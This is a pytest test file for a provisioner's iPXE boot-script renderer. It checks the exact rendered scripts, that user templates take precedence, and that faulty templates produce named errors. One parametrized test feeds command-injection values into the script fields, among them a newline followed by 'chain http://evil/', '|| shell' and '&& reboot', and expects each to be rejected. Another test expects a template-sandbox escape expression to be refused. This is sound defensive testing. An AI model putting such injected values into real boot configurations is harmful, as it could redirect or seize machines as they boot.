"""The scripts byte for byte, and that no value becomes a command."""

from __future__ import annotations

from pathlib import Path

import pytest

from provisioner.errors import InputError, NotFoundError
from provisioner.netboot.scripts import render

SERVER = "http://10.0.0.1"
MACHINE: dict[str, object] = {
    "server": SERVER, "machine": "52:54:00:00:00:01", "image": "docker", "rule": "default",
    "kernel": f"{SERVER}/images/docker/kernel", "initrds": [f"{SERVER}/images/docker/initrd.img"],
    "cmdline": "console=ttyS0 console=tty0",
}


def test_the_machines_script() -> None:
    assert render("ipxe/machine.ipxe", **MACHINE).decode() == """\
#!ipxe
# 52:54:00:00:00:01 boots docker by rule default
echo Booting docker
kernel http://10.0.0.1/images/docker/kernel console=ttyS0 console=tty0 || goto failed
initrd http://10.0.0.1/images/docker/initrd.img || goto failed
boot || goto failed

:failed
echo Booting docker failed, trying again in 5 seconds
sleep 5
chain --replace http://10.0.0.1/boot.ipxe
"""


def test_the_first_script_asks_who_it_is() -> None:
    lines = render("ipxe/boot.ipxe", server=SERVER).decode().splitlines()
    assert lines[0] == "#!ipxe"
    assert lines[-1].startswith("chain --replace http://10.0.0.1/machine.ipxe?mac=${netX/mac:hexhyp}&uuid=${uuid}")


def test_the_other_scripts() -> None:
    assert render("ipxe/nothing.ipxe", machine="x").endswith(b"exit 1\n")
    assert b"chain --replace http://10.0.0.1/boot.ipxe || goto retry\n" in render("ipxe/autoexec.ipxe", server=SERVER)


@pytest.mark.parametrize("key", ["server", "machine", "image", "rule", "kernel", "cmdline", "initrds"])
@pytest.mark.parametrize("value", ["a\nchain http://evil/", "a || shell", "${net0/mac}", "x && reboot", "a\rb"])
def test_no_value_becomes_a_command(key: str, value: str) -> None:
    with pytest.raises(InputError, match="cannot stand in a boot script"):
        render("ipxe/machine.ipxe", **MACHINE | {key: [value] if key == "initrds" else value})


def test_a_users_template_wins_and_its_faults_are_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PROVISIONER_DATA", str(tmp_path))
    mine = tmp_path / "pxe" / "ipxe" / "machine.ipxe"
    mine.parent.mkdir(parents=True)
    mine.write_text("#!ipxe\nmine {{ image }}\n")
    assert render("ipxe/machine.ipxe", **MACHINE) == b"#!ipxe\nmine docker\n"
    mine.write_text("{{ nothing_of_that_name }}")
    with pytest.raises(InputError, match=str(mine)):
        render("ipxe/machine.ipxe", **MACHINE)
    mine.write_text("{{ image.__class__.__mro__ }}")
    with pytest.raises(InputError, match="cannot be filled in"):
        render("ipxe/machine.ipxe", **MACHINE)


def test_a_script_that_is_not_there() -> None:
    with pytest.raises(NotFoundError, match="pxe/ipxe/none"):
        render("ipxe/none")
